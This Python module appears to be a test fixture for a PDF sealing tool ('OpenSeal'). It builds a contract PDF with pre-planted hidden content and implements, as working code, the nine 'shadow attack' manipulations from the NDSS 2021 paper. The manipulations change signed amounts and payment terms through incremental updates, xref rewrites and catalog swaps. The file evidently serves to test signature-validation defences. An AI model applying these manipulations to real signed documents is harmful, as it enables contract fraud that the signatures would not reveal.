"""Shadow attacks (Mainka, Mladenov, Rohlmann, Schwenk: "Shadow Attacks: Hiding and Replacing
Content in Signed PDFs", NDSS 2021), built from a document that OpenSeal seals.

``shadow_source()`` is a one-page contract that carries, before sealing, everything the
attacker needs later: text hidden under an overlay XObject, text in an optional content group
that is off, a form field with a value, a hidden form field with a value, and a complete
"shadow" page content (and a shadow document catalog) that nothing references; plus one empty
form field for the legitimate control (``fill_empty_field``). After
sealing, each ``MANIPULATIONS`` entry reveals or swaps content with one small incremental
update, the way the paper's three classes do:

- hide: remove the overlay (change the XObject stream), switch the OCG on, unhide a field;
- replace: change a form field's value and appearance, its appearance only, or overwrite an
  existing object (the page content) in place;
- hide-and-replace: point the page at the pre-planted shadow content, or, with nothing but a
  new cross-reference section, point the content's object number (or /Root) at the
  pre-planted shadow objects already inside the signed bytes.
"""

from __future__ import annotations

import io
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

VISIBLE_AMOUNT = b"Amount: CNY 100"
HIDDEN_AMOUNT = b"Amount: CNY 1,000,000"
PAGE_CONTENT = (b"BT /F1 16 Tf 72 770 Td (Purchase contract - shadow test) Tj ET\n"
                b"BT /F1 12 Tf 74 705 Td (" + HIDDEN_AMOUNT + b") Tj ET\n"
                b"q /Cover Do Q\n"
                b"/OC /oc1 BDC BT /F1 12 Tf 72 650 Td (Penalty: CNY 500,000 per day) Tj ET EMC\n"
                b"BT /F1 12 Tf 72 560 Td (Party A: OpenSeal Test Ltd.) Tj ET\n")
COVER = b"1 g 0 0 400 30 re f 0 g BT /F1 12 Tf 4 10 Td (" + VISIBLE_AMOUNT + b") Tj ET"
SHADOW_CONTENT = (b"BT /F1 16 Tf 72 770 Td (Purchase contract - shadow test) Tj ET\n"
                  b"BT /F1 12 Tf 72 705 Td (Amount: CNY 9,999,999) Tj ET\n")
TERM_AP = b"/Tx BMC BT /Helv 12 Tf 2 6 Td (Payment term: 30 days) Tj ET EMC"
NOTE_AP = b"1 g 0 0 300 20 re f /Tx BMC BT 0 g /Helv 12 Tf 2 6 Td (Penalty waived) Tj ET EMC"
EMPTY_AP = b"/Tx BMC EMC"
PAGE_OBJ, CONTENT_OBJ, COVER_OBJ, TERM_OBJ, TERM_AP_OBJ = 3, 4, 6, 7, 8
NOTE_OBJ, NOTE_AP_OBJ, OCPROPS_OBJ, SHADOW_OBJ, SHADOW_ROOT_OBJ = 10, 13, 12, 14, 15
REMARK_OBJ, REMARK_AP_OBJ = 18, 19


def _stream(head: bytes, data: bytes) -> bytes:
    return b"<< " + head + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _objects() -> list[bytes]:
    """Bodies of objects 1..19."""
    media = b"/MediaBox [0 0 595.2756 841.8898]"
    fonts = b"/Font << /F1 5 0 R /Helv 5 0 R >>"
    return [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm 9 0 R /OCProperties 12 0 R >>",  # 1
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",  # 2
        b"<< /Type /Page /Parent 2 0 R " + media + b" /Resources << " + fonts +
        b" /XObject << /Cover 6 0 R >> /Properties << /oc1 11 0 R >> >> /Contents 4 0 R"
        b" /Annots [7 0 R 10 0 R 18 0 R] >>",  # 3
        _stream(b"", PAGE_CONTENT),  # 4
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",  # 5
        _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 400 30] /Matrix [1 0 0 1 70 697]"
                b" /Resources << /Font << /F1 5 0 R >> >>", COVER),  # 6
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (term) /V (Payment term: 30 days)"
        b" /Rect [72 600 372 620] /F 4 /P 3 0 R /DA (/Helv 12 Tf 0 g) /AP << /N 8 0 R >> >>",
        _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 300 20]"
                b" /Resources << /Font << /Helv 5 0 R >> >>", TERM_AP),  # 8
        b"<< /Fields [7 0 R 10 0 R 18 0 R] /DR << /Font << /Helv 5 0 R >> >>"
        b" /DA (/Helv 12 Tf 0 g) >>",  # 9
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (note) /V (Penalty waived)"
        b" /Rect [70 645 370 665] /F 6 /P 3 0 R /DA (/Helv 12 Tf 0 g) /AP << /N 13 0 R >> >>",
        b"<< /Type /OCG /Name (shadow) >>",  # 11
        b"<< /OCGs [11 0 R] /D << /Order [11 0 R] /OFF [11 0 R] >> >>",  # 12
        _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 300 20]"
                b" /Resources << /Font << /Helv 5 0 R >> >>", NOTE_AP),  # 13
        _stream(b"", SHADOW_CONTENT),  # 14: referenced by nothing (yet)
        b"<< /Type /Catalog /Pages 16 0 R >>",  # 15: a shadow document, unreferenced
        b"<< /Type /Pages /Kids [17 0 R] /Count 1 >>",  # 16
        b"<< /Type /Page /Parent 16 0 R " + media + b" /Resources << " + fonts +
        b" >> /Contents 14 0 R >>",  # 17
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (remark) /Rect [72 520 372 540] /F 4"
        b" /P 3 0 R /DA (/Helv 12 Tf 0 g) /AP << /N 19 0 R >> >>",  # 18: empty, to fill in
        _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 300 20]"
                b" /Resources << /Font << /Helv 5 0 R >> >>", EMPTY_AP),  # 19
    ]


def shadow_source() -> bytes:
    """The document as the attacker hands it over for sealing (a classic xref table).

    After the last real object it also carries a second ``4 0 obj`` with the shadow content,
    which the cross-reference table does not point at (for the xref-only variant)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for num, body in enumerate(_objects(), start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    out += b"%d 0 obj\n" % CONTENT_OBJ + _stream(b"", SHADOW_CONTENT) + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += (b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(offsets) + 1, xref_at))
    return bytes(out)


# --------------------------------------------------------------------------- manipulations


def _update(sealed: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(sealed), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _ref(writer: IncrementalPdfFileWriter, num: int) -> generic.IndirectObject:
    return generic.IndirectObject(num, 0, writer)


def _overwrite(writer: IncrementalPdfFileWriter, num: int, obj: generic.PdfObject) -> None:
    """Write a new version of object ``num`` (same number, same generation)."""
    writer.objects[(0, num)] = obj


def _with_data(stream: generic.StreamObject, data: bytes) -> generic.StreamObject:
    keep = {k: v for k, v in stream.items() if k not in ("/Length", "/Filter", "/DecodeParms")}
    return generic.StreamObject(keep, stream_data=data)


def hide_overlay_removed(sealed: bytes) -> bytes:
    """Hide: the cover XObject now paints nothing, revealing the amount beneath it."""
    def change(w: IncrementalPdfFileWriter) -> None:
        _overwrite(w, COVER_OBJ, _with_data(_ref(w, COVER_OBJ).get_object(), b""))
    return _update(sealed, change)


def hide_ocg_switched_on(sealed: bytes) -> bytes:
    """Hide: the optional content group that was off is switched on."""
    def change(w: IncrementalPdfFileWriter) -> None:
        props = _ref(w, OCPROPS_OBJ).get_object()
        props["/D"] = generic.DictionaryObject({
            pdf_name("/Order"): generic.ArrayObject([_ref(w, 11)]),
            pdf_name("/ON"): generic.ArrayObject([_ref(w, 11)])})
        w.mark_update(_ref(w, OCPROPS_OBJ))
    return _update(sealed, change)


def hide_field_unhidden(sealed: bytes) -> bytes:
    """Hide: a form field that was hidden (/F 6) becomes visible (/F 4)."""
    def change(w: IncrementalPdfFileWriter) -> None:
        note = _ref(w, NOTE_OBJ).get_object()
        note["/F"] = generic.NumberObject(4)
        w.mark_update(_ref(w, NOTE_OBJ))
    return _update(sealed, change)


def _set_field(w: IncrementalPdfFileWriter, field_obj: int, appearance_obj: int,
               text: str) -> None:
    """Give the text field ``field_obj`` the value ``text`` and an appearance showing it."""
    field = _ref(w, field_obj).get_object()
    field["/V"] = generic.TextStringObject(text)
    _overwrite(w, appearance_obj, _with_data(
        _ref(w, appearance_obj).get_object(),
        b"/Tx BMC BT /Helv 12 Tf 2 6 Td (" + text.encode("ascii") + b") Tj ET EMC"))
    w.mark_update(_ref(w, field_obj))


def replace_field_value(sealed: bytes) -> bytes:
    """Replace: the filled-in form field gets another value and appearance."""
    return _update(sealed, lambda w: _set_field(w, TERM_OBJ, TERM_AP_OBJ,
                                                "Payment term: none, pay at once"))


def replace_widget_appearance(sealed: bytes) -> bytes:
    """Replace: only the field's appearance stream changes (its value stays)."""
    def change(w: IncrementalPdfFileWriter) -> None:
        _overwrite(w, TERM_AP_OBJ, _with_data(
            _ref(w, TERM_AP_OBJ).get_object(),
            b"/Tx BMC BT /Helv 12 Tf 2 6 Td (Payment term: 3 days) Tj ET EMC"))
    return _update(sealed, change)


def replace_content_overwritten(sealed: bytes) -> bytes:
    """Replace via overwrite: the page content object itself gets a new version."""
    def change(w: IncrementalPdfFileWriter) -> None:
        _overwrite(w, CONTENT_OBJ, generic.StreamObject(stream_data=SHADOW_CONTENT))
    return _update(sealed, change)


def hide_and_replace_contents(sealed: bytes) -> bytes:
    """Hide-and-replace: the page now shows the pre-planted (signed) shadow content."""
    def change(w: IncrementalPdfFileWriter) -> None:
        page = _ref(w, PAGE_OBJ).get_object()
        page["/Contents"] = _ref(w, SHADOW_OBJ)
        w.mark_update(_ref(w, PAGE_OBJ))
    return _update(sealed, change)


def fill_empty_field(sealed: bytes) -> bytes:
    """Not an attack on sealed content: the field that was empty when sealed is filled in
    (what a recipient does with a form). Changed after sealing, possibly harmless."""
    return _update(sealed, lambda w: _set_field(w, REMARK_OBJ, REMARK_AP_OBJ,
                                                "Received, Li Si"))


def _xref_only(sealed: bytes, entries: dict[int, int], root: int | None = None) -> bytes:
    """An update made of nothing but a cross-reference section (and trailer) that points
    object numbers at offsets inside the signed bytes."""
    reader = PdfFileReader(io.BytesIO(sealed), strict=False)
    prev = reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1)
    root_ref = reader.trailer.raw_get("/Root")
    root_num = root if root is not None else root_ref.idnum
    body = bytearray(b"" if sealed.endswith(b"\n") else b"\n")
    xref_at = len(sealed) + len(body)
    body += b"xref\n"
    if not entries:
        body += b"0 1\n0000000000 65535 f \n"
    for num, offset in sorted(entries.items()):
        body += b"%d 1\n%010d 00000 n \n" % (num, offset)
    body += (b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
             % (int(reader.trailer["/Size"]), root_num, prev, xref_at))
    return sealed + bytes(body)


def hide_and_replace_xref_only(sealed: bytes) -> bytes:
    """Hide-and-replace: a new xref section points object 4 (the page content) at the
    second, unreferenced ``4 0 obj`` planted inside the signed bytes."""
    first = sealed.index(b"\n%d 0 obj\n" % CONTENT_OBJ) + 1
    shadow = sealed.index(b"\n%d 0 obj\n" % CONTENT_OBJ, first) + 1
    return _xref_only(sealed, {CONTENT_OBJ: shadow})


def hide_and_replace_root(sealed: bytes) -> bytes:
    """Hide-and-replace: a new trailer whose /Root is the pre-planted shadow catalog."""
    return _xref_only(sealed, {}, root=SHADOW_ROOT_OBJ)


MANIPULATIONS: dict[str, Callable[[bytes], bytes]] = {
    "hide-overlay-removed": hide_overlay_removed,
    "hide-ocg-switched-on": hide_ocg_switched_on,
    "hide-field-unhidden": hide_field_unhidden,
    "replace-field-value": replace_field_value,
    "replace-widget-appearance": replace_widget_appearance,
    "replace-content-overwritten": replace_content_overwritten,
    "hide-and-replace-contents": hide_and_replace_contents,
    "hide-and-replace-xref-only": hide_and_replace_xref_only,
    "hide-and-replace-root": hide_and_replace_root,
}
